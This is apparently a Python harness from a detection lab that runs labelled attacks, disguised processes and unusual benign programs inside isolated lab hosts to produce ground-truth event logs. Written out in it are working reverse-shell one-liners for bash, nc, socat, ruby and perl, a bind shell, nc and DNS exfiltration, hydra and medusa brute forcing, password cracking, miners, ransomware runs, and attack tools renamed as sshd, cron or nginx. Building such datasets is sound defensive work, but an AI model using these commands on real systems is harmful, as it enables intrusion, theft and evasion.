#!/usr/bin/python3
"""Labelled attacks, masquerades and novelties on the running hosts; harmless stand-ins, nothing leaves the lab's namespaces.

attack.py --sets b,c --out HAPPENINGS.tsv --minutes N [--seed N] [--only NAME,…] [--seconds N]

Each happening runs one program for 40 to 70 s inside a host (its pid namespace: recorded), what it needs from outside
(the attacker's end of a shell, a pool, clients) outside of it (not recorded). Client and server of each set are a lane
of their own. HAPPENINGS.tsv holds what ran, when and under which root pid; finish.py makes the scenario file of it.
What it cannot promise: that a tool did something useful (hydra is slowed down by PAM, nmap may finish early).
"""
import argparse, os, random, shlex, subprocess, sys, threading, time

A, PYTHON, WORK = (
    '/opt/lab/attack',
    '/usr/bin/python3',
    os.environ.get('LAB_WORK', '/var/lib/callsign-lab'),
)
JOBS = (
    []
)  # (kind, name, claimed, program, own names or None for all of its tree, make(host, seconds, random))
lock = threading.Lock()
next_port = [23000]


def port():
    with lock:
        next_port[0] += 1
        return next_port[0]


def job(kind, name, program, make, claimed='', own=None):
    JOBS.append((kind, name, claimed, program, own, make))


def copy(source, name):
    """A copy of a program under another's name; at(name) is where it lies."""
    return f'mkdir -p /var/tmp/m/{name}.d; cp -L {source} /var/tmp/m/{name}.d/{name}; '


def at(name):
    return f'/var/tmp/m/{name}.d/{name}'


def other(host):
    return 'server.lab' if host.endswith('client') else 'client.lab'


WORDS = (
    '[ -s /tmp/wl ] || { shuf -n 400 /usr/share/dict/words > /tmp/wl; printf "lab\\n123456\\nqwerty\\nroot\\n" >> /tmp/wl; '
    'printf "alice\\nbob\\ncarol\\nroot\\nadmin\\noracle\\n" > /tmp/ul; }; '
)
VICTIM = (
    'mkdir -p TREE; cp -rL $(ls -d /usr/share/doc/* | shuf -n 700) TREE/ 2>/dev/null; '
    'find TREE -name "*.gz" -exec gunzip -f {} + 2>/dev/null; true; '
)
HASHES = 'for i in 1 2 3 4 5; do echo "u$i:$(openssl passwd -6 -salt cd$i yy$RANDOM$RANDOM):1:1::/:/bin/sh"; echo "v$i:$(openssl passwd -1 -salt ef$i xx$RANDOM$RANDOM):1:1::/:/bin/sh"; done > /var/tmp/hashes; '


# --- non-grata: programs that should never run here
def scan(binary='nmap', style=0):
    def make(host, seconds, r):
        target = r.choice(['127.0.0.1', other(host)])
        loud = [
            f'-n -Pn -sT -T{r.choice([2, 4])} -p 1-{r.choice([3000, 9000])} {target}',
            f'-n -Pn -sV --version-intensity 3 -p 21,22,25,53,80,110,143,443,3306,5432,6379,8080 {target}',
        ]
        quiet = [
            f'-n -Pn -sS --scan-delay {r.choice(["5ms", "20ms"])} --top-ports 700 {target}',
            f'-n -Pn -sC -p 21,22,25,80,143 {target}',
            f'-n -sn -PE -PS22 {".".join(ADDRESS[host].split(".")[:3])}.0/26',
            f'-n -Pn -sU --max-retries 1 --top-ports 30 {target}',
        ]
        return (
            '',
            [],
            'while :; do '
            + '; '.join(f'{binary} {a}' for a in (quiet if style else loud))
            + '; sleep 0.5; done',
        )

    return make


def sweep(binary='masscan'):
    def make(host, seconds, r):
        target = ADDRESS[host[:2] + ('server' if host.endswith('client') else 'client')]
        mac = f'ping -c 1 -W 1 {target} > /dev/null; m=$(ip neigh show {target} | cut -d" " -f5); '
        return (
            '',
            [],
            mac
            + f'while :; do {binary} {target} -p{r.choice(["1-9000", "1-65535", "22,80,443,3306,5432,8000-8100"])} --rate {r.choice([50, 200, 800])} --router-mac $m --wait {r.choice([0, 2])}; sleep 1; done',
        )

    return make


def guess(binary='hydra', tool='hydra'):
    def make(host, seconds, r):
        target = r.choice(['127.0.0.1', other(host)])
        on_server = (target == '127.0.0.1') == host.endswith('server')
        what = r.choice(['ssh', 'ftp', 'imap', 'ssh']) if on_server else 'ssh'
        if tool == 'medusa':
            return (
                WORDS,
                [],
                f'while :; do {binary} -h {target} -U /tmp/ul -P /tmp/wl -M {what} -t {r.choice([1, 3])}; sleep 1; done',
            )
        return (
            WORDS,
            [],
            f'while :; do {binary} -I -u -L /tmp/ul -P /tmp/wl -t {r.choice([2, 4, 8])} -W 1 {what}://{target}; sleep 1; done',
        )

    return make


def crack(binary='/usr/sbin/john'):
    return lambda host, seconds, r: (
        HASHES,
        [],
        'mkdir -p /tmp/jj2; cd /tmp/jj2; export HOME=/tmp/jj2; while :; do '
        f'{binary} --session=s$RANDOM {r.choice(["--format=crypt --wordlist=/usr/share/dict/words", "--format=md5crypt --incremental", "--format=md5crypt --wordlist=/usr/share/dict/words --rules", "--single"])} /var/tmp/hashes || sleep 1; done',
    )


def hasher(name, threads=(1, 2, 3)):
    def make(host, seconds, r):
        p = port()
        return (
            copy(f'{A}/hasher', name),
            [f'timeout {seconds + 9} {PYTHON} {A}/pool.py {p}'],
            f'sleep 1; {at(name)} {r.choice(threads)} {p} {r.choice([1, 4, 8, 20])}',
        )

    return make


def encrypt(python=PYTHON, pre=''):
    def make(host, seconds, r):
        tree = f'/var/tmp/victim{port()}'
        return (
            VICTIM.replace('TREE', tree) + pre,
            [],
            f'export PYTHONHOME=/usr; {python} {A}/ransom.py {tree} {r.choice([0.03, 0.1, 0.3])} {r.choice(["new", "place", "walk"])}; sleep 1',
        )

    return make


def encrypt_by_tool(tool):
    def make(host, seconds, r):
        tree = f'/var/tmp/victim{port()}'
        return VICTIM.replace('TREE', tree), [], f'{A}/ransom.sh {tree} {tool}'

    return make


def shell(kind, pre='', python=PYTHON, name=''):
    def make(host, seconds, r):
        p = port()
        commands = {
            'bash': f'bash -i >& /dev/tcp/127.0.0.1/{p} 0>&1',
            'pypty': f'export PYTHONHOME=/usr; {python} {A}/rsh.py {p} pty',
            'py': f'{python} {A}/rsh.py {p} sh',
            'socat': f'socat EXEC:"/bin/bash -i",pty,stderr,setsid,sane TCP:127.0.0.1:{p}',
            'nc': f'rm -f /tmp/q{p}; mkfifo /tmp/q{p}; cat /tmp/q{p} | /bin/bash -i 2>&1 | nc 127.0.0.1 {p} > /tmp/q{p}',
            'ruby': f"ruby -rsocket -e 's=TCPSocket.new(\"127.0.0.1\",{p}); while l=s.gets; IO.popen(l,\"r\"){{|io| s.print io.read}} rescue s.puts(\"?\"); end'",
            'perl': f"perl -e '$0=\"{name or 'perl'}\"; use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in({p},inet_aton(\"127.0.0.1\"))); open(STDIN,\">&S\"); open(STDOUT,\">&S\"); while (<STDIN>) {{ print `$_`; }}'",
        }
        if kind == 'bind':
            return (
                pre,
                [f'sleep 2; {PYTHON} {A}/type.py {p} {seconds} {r.randint(0, 9999)}'],
                f'socat TCP-LISTEN:{p},reuseaddr,fork EXEC:/bin/sh,pty,stderr',
            )
        return (
            pre,
            [f'{PYTHON} {A}/c2.py {p} {seconds} {r.randint(0, 9999)}'],
            'sleep 1; ' + commands[kind],
        )

    return make


def carry_out(binary='nc'):
    def make(host, seconds, r):
        p = port()
        how = r.choice(
            [
                f'tar czf - /etc /usr/share/perl5 2>/dev/null | {binary} -N 127.0.0.1 {p}',
                f'find /etc /usr/share/doc -type f | shuf -n 50 | while read -r f; do {binary} -N 127.0.0.1 {p} < $f; sleep 0.$((RANDOM % 5)); done',
                f'(for i in $(seq 300); do head -c 9000 /dev/urandom; sleep 0.15; done) | {binary} -N 127.0.0.1 {p}',
            ]
        )
        return (
            '',
            [f'timeout {seconds + 5} socat -u TCP-LISTEN:{p},fork,reuseaddr /dev/null'],
            f'sleep 1; while :; do {how}; sleep 0.2; done',
        )

    return make


def tunnel(binary='socat'):
    def make(host, seconds, r):
        p = port()
        return (
            '',
            [
                f'sleep 2; timeout {seconds} bash -c "while :; do curl -s -o /dev/null http://127.0.0.1:{p}/f100.bin; curl -s http://127.0.0.1:{p}/ >/dev/null; sleep 0.\\$((RANDOM%9)); done"'
            ],
            f'{binary} TCP-LISTEN:{p},fork,reuseaddr TCP:{other(host)}:80',
        )

    return make


def webshell(host, seconds, r):
    p = port()
    return (
        f'mkdir -p /tmp/ws; cp {A}/webshell.php /tmp/ws/; ',
        [f'sleep 2; {PYTHON} {A}/webclient.py {p} {seconds} {r.randint(0, 9999)}'],
        f'php -S 127.0.0.1:{p} -t /tmp/ws',
    )


def script(text):
    return lambda host, seconds, r: ('', [], text.replace('SECONDS', str(seconds)))


SHELL = None  # everything that a shell runs is its own
job('non-grata', 'nmap', 'nmap', scan(style=0), own=['nmap'])
job('non-grata', 'nmap-quiet', 'nmap', scan(style=1), own=['nmap'])
job('non-grata', 'masscan', 'masscan', sweep(), own=['masscan'])
job('non-grata', 'hydra', 'hydra', guess(), own=['hydra'])
job('non-grata', 'medusa', 'medusa', guess('medusa', 'medusa'), own=['medusa'])
job('non-grata', 'john', 'john', crack(), own=['john'])
job('non-grata', 'miner', 'miner', hasher('xmrig'), own=['xmrig'])
job('non-grata', 'miner-renamed', 'miner', hasher('kdevtmpfsi'), own=['kdevtmpfsi'])
job('non-grata', 'ransom-py', 'ransom.py', encrypt(), own=['python3'])
job(
    'non-grata',
    'ransom-sh',
    'ransom.sh',
    encrypt_by_tool('openssl'),
    own=['openssl', 'ransom.sh', 'shred'],
)
job(
    'non-grata',
    'ransom-gpg',
    'ransom.sh',
    encrypt_by_tool('gpg'),
    own=['gpg', 'gpg-agent', 'ransom.sh'],
)
for how in ('bash', 'pypty', 'py', 'socat', 'nc', 'ruby'):
    job('non-grata', f'revshell-{how}', how, shell(how), own=SHELL)
job('non-grata', 'bindshell', 'socat', shell('bind'), own=SHELL)
job('non-grata', 'webshell', 'php', webshell, own=SHELL)
job('non-grata', 'exfil-nc', 'nc', carry_out(), own=['nc', 'tar'])
job('non-grata', 'exfil-nc-2', 'nc', carry_out(), own=['nc', 'tar'])
job(
    'non-grata',
    'exfil-dns',
    'dig',
    script(
        'while :; do for c in $(head -c 600 /dev/urandom | base32 -w 50 | tr -d =); do dig +short +tries=1 +time=1 @127.0.0.1 -p 5353 $c.x.example; done; sleep 0.2; done'
    ),
    own=['dig'],
)
job(
    'non-grata',
    'scrape',
    'scrape.py',
    lambda h, d, r: ('', [], f'{PYTHON} {A}/scrape.py {d}'),
    own=['python3'],
)
job(
    'non-grata',
    'enumerate',
    'enumerate.sh',
    lambda h, d, r: ('', [], f'{A}/enumerate.sh {d}'),
    own=['enumerate.sh', 'getcap', 'lsof', 'crontab', 'ss'],
)
job(
    'non-grata',
    'stress-ng',
    'stress-ng',
    lambda h, d, r: (
        '',
        [],
        f'stress-ng --cpu 1 --cpu-load {r.choice([15, 30])} {r.choice(["", "--switch 1", "--hash 1 --hash-ops 2000", "--shm 1 --shm-bytes 4m"])} -t {d}',
    ),
    own=['stress-ng', 'stress-ng-cpu', 'stress-ng-hash', 'stress-ng-switc', 'stress-ng-shm'],
)
job('non-grata', 'tunnel', 'socat', tunnel(), own=['socat'])
job(
    'non-grata',
    'forks',
    'forks.sh',
    lambda h, d, r: ('', [], f'{A}/forks.sh {d}'),
    own=['forks.sh'],
)


# --- masquerades: bad tools, then ordinary programs, under the name of something that runs in the lab
def bad(name, program, source, make):
    job(
        'masquerade',
        f'{program}-as-{name}',
        program,
        lambda h, d, r: (copy(source, name) + (m := make(h, d, r))[0],) + m[1:],
        claimed=name,
        own=[name],
    )


bad('haproxy', 'nmap', '/usr/bin/nmap', scan(at('haproxy'), 1))
bad('apache2', 'nmap', '/usr/bin/nmap', scan(at('apache2'), 0))
bad('fetchmail', 'medusa', '/usr/bin/medusa', guess(at('fetchmail'), 'medusa'))
bad('sshd', 'hydra', '/usr/bin/hydra', guess(at('sshd')))
bad('postgres', 'john', '/usr/sbin/john', crack(at('postgres')))
job(
    'masquerade',
    'miner-as-mariadbd',
    'miner',
    hasher('mariadbd'),
    claimed='mariadbd',
    own=['mariadbd'],
)
job('masquerade', 'miner-as-node', 'miner', hasher('node'), claimed='node', own=['node'])
job(
    'masquerade',
    'ransom-as-rsync',
    'ransom.py',
    encrypt(at('rsync'), copy(PYTHON, 'rsync')),
    claimed='rsync',
    own=['rsync'],
)
job(
    'masquerade',
    'ransom-as-apache2',
    'ransom.py',
    encrypt(at('apache2'), copy(PYTHON, 'apache2')),
    claimed='apache2',
    own=['apache2'],
)
job(
    'masquerade',
    'rsh-as-cron',
    'python3',
    shell('pypty', copy(PYTHON, 'cron'), at('cron')),
    claimed='cron',
    own=['cron'],
)
job(
    'masquerade',
    'perlsh-as-nginx',
    'perl',
    shell('perl', name='nginx'),
    claimed='nginx',
    own=['nginx'],
)
job(
    'masquerade',
    'perlsh-as-master',
    'perl',
    shell('perl', name='master'),
    claimed='master',
    own=['master'],
)
bad('snmpd', 'nc', '/usr/bin/nc', carry_out(at('snmpd')))
bad('squid', 'socat', '/usr/bin/socat', tunnel(at('squid')))
for claimed in ('collectd', 'munin-node'):
    job(
        'masquerade',
        f'scrape-as-{claimed}',
        'scrape.py',
        lambda h, d, r, n=claimed: ('', [], f'{PYTHON} {A}/named.py {n} {A}/scrape.py {d}'),
        claimed=claimed,
        own=[claimed],
    )


def serve(source, argv, protocol, pre='', binary=''):
    def make(host, seconds, r):
        p = port()
        return (
            pre.replace('PORT', str(p)),
            [f'sleep 2; {PYTHON} {A}/hit.py {protocol} {p} {seconds} {r.randint(0, 999)}'],
            f'{binary or source} ' + argv.replace('PORT', str(p)),
        )

    return make


def disguise(program, name, source, argv, protocol, pre=''):
    bad(name, program, source, serve(source, argv, protocol, pre, at(name)))


disguise(
    'redis-server',
    'memcached',
    '/usr/bin/redis-server',
    '--port PORT --dir /tmp --save "" --appendonly no',
    'redis',
)
disguise('memcached', 'redis-server', '/usr/bin/memcached', '-u nobody -p PORT -m 16 -t 1', 'memc')
disguise('mosquitto', 'beanstalkd', '/usr/sbin/mosquitto', '-p PORT', 'mqtt')
disguise(
    'lighttpd',
    'nginx',
    '/usr/sbin/lighttpd',
    '-D -f /var/tmp/l2.conf',
    'http',
    'printf "server.document-root=\\"/var/www/html\\"\\nserver.port=PORT\\n" > /var/tmp/l2.conf; ',
)
disguise(
    'nginx',
    'lighttpd',
    '/usr/sbin/nginx',
    '-g "daemon off;" -c /var/tmp/n2.conf',
    'http',
    'printf "pid /tmp/nn2.pid;events{} http { access_log /tmp/nn2.log; server { listen PORT; root /var/www/html; } }" > /var/tmp/n2.conf; ',
)
disguise(
    'python3',
    'squid',
    PYTHON,
    '-m http.server PORT --directory /var/www/html',
    'http',
    'export PYTHONHOME=/usr; ',
)
disguise(
    'tinyproxy',
    'haproxy',
    '/usr/bin/tinyproxy',
    '-d -c /var/tmp/tp2.conf',
    'proxy',
    'printf "User nobody\\nPort PORT\\nListen 127.0.0.1\\nMaxClients 20\\n" > /var/tmp/tp2.conf; ',
)
disguise(
    'node',
    'gunicorn',
    '/usr/bin/node',
    '-e \'require("http").createServer((q,s)=>require("fs").readFile("/etc/services",(e,b)=>s.end(b))).listen(PORT)\'',
    'http',
)
disguise(
    'dnsmasq',
    'unbound',
    '/usr/sbin/dnsmasq',
    '-k -p PORT -C /dev/null --no-resolv --address=/#/1.2.3.4',
    'dns',
)
bad(
    'rsync',
    'find',
    '/usr/bin/find',
    lambda h, d, r: (
        '',
        [],
        f'while :; do {at("rsync")} /usr/share /var -name "*{r.randint(0, 9)}*" -size +1k -printf "%p %s\\n"; sleep 0.5; done',
    ),
)
bad('vmstat', 'top', '/usr/bin/top', lambda h, d, r: ('', [], f'{at("vmstat")} -b -d 0.7'))
bad(
    'collectd',
    'snmpd',
    '/usr/sbin/snmpd',
    lambda h, d, r: (
        'printf "rocommunity public\\n" > /var/tmp/sn.conf; ',
        [
            f'sleep 2; timeout {d} bash -c "while :; do snmpwalk -v2c -cpublic -t1 -r0 127.0.0.1:16100 .1.3.6.1.2.1 >/dev/null; sleep 0.5; done"'
        ],
        f'{at("collectd")} -f -Lo -C -c /var/tmp/sn.conf udp:127.0.0.1:16100',
    ),
)


# --- novelties: ordinary programs that no recording of ordinary life holds
def new(name, make, own=None):
    job('novelty', name, name, make, own=own or [name])


new(
    'tinyproxy',
    serve(
        'tinyproxy',
        '-d -c /var/tmp/tp.conf',
        'proxy',
        'printf "User nobody\\nPort PORT\\nListen 127.0.0.1\\nMaxClients 20\\n" > /var/tmp/tp.conf; ',
    ),
)
new(
    'nsd',
    serve(
        'nsd',
        '-d -c /var/tmp/nsd.conf',
        'dns',
        'mkdir -p /var/tmp/nsd; chmod 777 /var/tmp/nsd; printf "server:\\n ip-address: 127.0.0.1\\n port: PORT\\n username: root\\n chroot: \\"\\"\\n zonesdir: \\"/var/tmp/nsd\\"\\n pidfile: \\"/var/tmp/nsd/p\\"\\n xfrdfile: \\"/var/tmp/nsd/x\\"\\nremote-control:\\n control-enable: no\\nzone:\\n name: example\\n zonefile: z\\n" > /var/tmp/nsd.conf; printf "\\$ORIGIN example.\\n@ 60 IN SOA a b 1 2 3 4 5\\n@ 60 IN NS a\\na 60 IN A 1.2.3.4\\n* 60 IN A 1.2.3.5\\n" > /var/tmp/nsd/z; ',
    ),
    own=['nsd', 'nsd: main', 'nsd: server 1', 'nsd: xfrd'],
)
new(
    'iperf3',
    lambda h, d, r: (
        '',
        ['iperf3 -s -p 5298 -1'],
        f'sleep 1; iperf3 -c 127.0.0.1 -p 5298 -u -b {r.choice(["2M", "9M"])} -t {d}',
    ),
)
new(
    'restic',
    script(
        'export RESTIC_PASSWORD=y HOME=/tmp; rm -rf /tmp/r2; restic init -r /tmp/r2; while :; do restic -r /tmp/r2 backup /usr/share/perl5; restic -r /tmp/r2 snapshots; sleep 1; done'
    ),
)
new(
    'sysbench',
    script(
        'while :; do sysbench --time=6 --threads=2 --rate=300 threads run; sysbench --time=4 --rate=500 memory --memory-block-size=4K run; sleep 0.5; done'
    ),
)
new(
    'borg',
    script(
        'export BORG_PASSPHRASE=z HOME=/tmp BORG_BASE_DIR=/tmp/bb; rm -rf /tmp/bo; borg init -e repokey /tmp/bo; while :; do borg create /tmp/bo::a$RANDOM /usr/share/doc/git /etc; borg list /tmp/bo; sleep 1; done'
    ),
)
new(
    'graphviz',
    script(
        'while :; do (echo "digraph g {"; for i in $(seq 60); do echo "n$((RANDOM % 40)) -> n$((RANDOM % 40));"; done; echo "}") > /tmp/g.dot; dot -Tsvg /tmp/g.dot -o /tmp/g.svg; sleep 0.3; done'
    ),
    own=['dot'],
)
new(
    '7z',
    script(
        'while :; do rm -f /tmp/z.7z; 7z a -bd -mx=3 /tmp/z.7z /usr/share/doc/git; 7z t /tmp/z.7z; sleep 0.5; done'
    ),
    own=['7z', '7za', '7zr', '7zz'],
)
new(
    'convert',
    script(
        'while :; do convert -size 500x300 plasma:fractal -charcoal 2 /tmp/p2.png; convert /tmp/p2.png -resize 40% -rotate 33 /tmp/q2.jpg; identify /tmp/q2.jpg; sleep 0.2; done'
    ),
    own=['convert', 'identify', 'magick'],
)
new(
    'jq',
    script(
        'while :; do seq 30000 | jq -s "map({a:.,b:(.%13)})|group_by(.b)|map(length)"; sleep 0.4; done'
    ),
)
new(
    'dropbear',
    lambda h, d, r: (
        'mkdir -p /etc/dropbear; [ -e /tmp/db.key ] || dropbearkey -t ed25519 -f /tmp/db.key; ',
        [
            f'sleep 2; timeout {d} bash -c "while :; do ssh -i ~root/.ssh/id -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null alice@127.0.0.1 ls -la /etc; sleep 1; done"'
        ],
        'dropbear -F -E -p 127.0.0.1:2222 -r /tmp/db.key',
    ),
)
new(
    'lua5.4',
    script(
        'while :; do lua5.4 -e "local t={} for l in io.lines(\'/usr/share/dict/words\') do t[#t+1]=l end table.sort(t) local f=io.open(\'/tmp/lua.o\',\'w\') for i=1,#t,7 do f:write(t[i],\'\\n\') end f:close()"; sleep 0.5; done'
    ),
)
new(
    'vim',
    script(
        'cp /usr/share/common-licenses/GPL-2 /tmp/v2.txt; while :; do vim.tiny -es -u NONE -c "g/a/s//A/g" -c "sort" -c "w" -c "q" /tmp/v2.txt; sleep 0.4; done'
    ),
    own=['vim.tiny'],
)

# --- running them
parser = argparse.ArgumentParser(description='runs labelled attacks in the laboratory')
parser.add_argument('--sets', required=True)
parser.add_argument('--out', required=True)
parser.add_argument('--minutes', type=float, default=25)
parser.add_argument('--seed', default='1')
parser.add_argument('--only', default='')
parser.add_argument('--seconds', type=int, default=0)
parser.add_argument('--lanes', type=int, default=1, help='happenings at a time on each host')
parser.add_argument(
    '--list',
    action='store_true',
    help='prints kind, name, claimed name and own names of all happenings',
)
options = parser.parse_args()
if options.list:
    for j in JOBS:
        print(j[0], j[1], j[2] or '-', ','.join(j[4] or ['*']), sep='\t')
    sys.exit(0)
HOSTS = {}
for s in options.sets.split(','):
    for role in ('client', 'server'):
        noted = f'{WORK}/run/{s}/{role}/leader'
        if os.path.exists(noted):
            HOSTS[f'{s}/{role}'] = open(noted).read().strip()
if not HOSTS:
    sys.exit(f'attack.py: no host of {options.sets} runs under {WORK}')
ADDRESS = {h: f'10.77.{ord(h[0]) - 96}.{10 if h.endswith("client") else 20}' for h in HOSTS}
for directory in (
    '/sys/fs/cgroup/cpu',
    '/sys/fs/cgroup/cpuacct',
    '/sys/fs/cgroup/cpu,cpuacct',
    '/sys/fs/cgroup',
):  # under the hosts' cap
    try:
        if not os.path.exists(f'{directory}/cgroup.procs'):
            continue
        os.makedirs(f'{directory}/callsign-lab/attack', exist_ok=True)
        with open(f'{directory}/callsign-lab/attack/cgroup.procs', 'w') as f:
            f.write(str(os.getpid()))
    except OSError:
        pass
os.nice(10)
os.makedirs(f'{WORK}/logs/attack', exist_ok=True)
happenings = open(options.out, 'w')
deadline = time.time() + options.minutes * 60


def outside(host, command):
    """In the host's files and network, outside its pid namespace: not recorded."""
    return subprocess.Popen(
        ['nsenter', '-t', HOSTS[host], '-m', '-n', 'bash', '-c', command],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def end(process, seconds):
    try:
        process.wait(seconds)
    except subprocess.TimeoutExpired:
        try:
            os.killpg(process.pid, 9)
        except OSError:
            pass
        process.wait()


def run(host, entry, r):
    kind, name, claimed, program, own, make = entry
    seconds = options.seconds or r.randint(40, 70)
    prepare, helpers, command = make(host, seconds, r)
    if prepare:
        end(outside(host, prepare), 60)
    running = [outside(host, h) for h in helpers]
    began = time.time()
    with open(f'{WORK}/logs/attack/{host.replace("/", "-")}-{name}.log', 'wb') as log:
        process = subprocess.Popen(
            [
                'nsenter',
                '-t',
                HOSTS[host],
                '-a',
                'timeout',
                '-k',
                '3',
                str(seconds),
                'bash',
                '-c',
                command,
            ],
            stdin=subprocess.DEVNULL,
            stdout=log,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        end(process, seconds + 15)
    ended = time.time()
    for helper in running:
        end(helper, 8)
    with lock:
        host_name = host[0] + host.split('/')[1][0]
        happenings.write(
            '\t'.join(
                [
                    f'{began:.1f}',
                    f'{ended:.1f}',
                    host_name,
                    str(process.pid),
                    kind,
                    name,
                    claimed,
                    program,
                    ','.join(own or ['*']),
                ]
            )
            + '\n'
        )
        happenings.flush()


def lane(host, queue):
    r = random.Random(f'{options.seed}{host}{threading.get_ident() if options.lanes > 1 else 0}')
    time.sleep(0 if options.seconds else r.uniform(0, 20))
    while time.time() < deadline - 45:
        with lock:
            if not queue:
                return
            entry = queue.pop(0)
        try:
            run(host, entry, r)
        except Exception as e:
            print('attack.py:', entry[1], repr(e), file=sys.stderr, flush=True)
        time.sleep(r.uniform(3, 15) if not options.seconds else 1)


def order(seed):
    """Random, with the three kinds spread evenly, so that a run cut short still holds all of them."""
    r = random.Random(seed)
    only = options.only.split(',') if options.only else None
    placed = []
    for kind in ('non-grata', 'masquerade', 'novelty'):
        entries = [j for j in JOBS if j[0] == kind and (not only or j[1] in only)]
        r.shuffle(entries)
        placed += [((i + r.random()) / len(entries), j) for i, j in enumerate(entries)]
    return [j for _, j in sorted(placed, key=lambda p: p[0])]


lanes = []
for s in options.sets.split(','):
    queue = order(f'{options.seed}{s}')
    lanes += [
        threading.Thread(target=lane, args=(h, queue))
        for h in HOSTS
        if h[0] == s
        for _ in range(options.lanes)
    ]
for t in lanes:
    t.start()
for t in lanes:
    t.join()
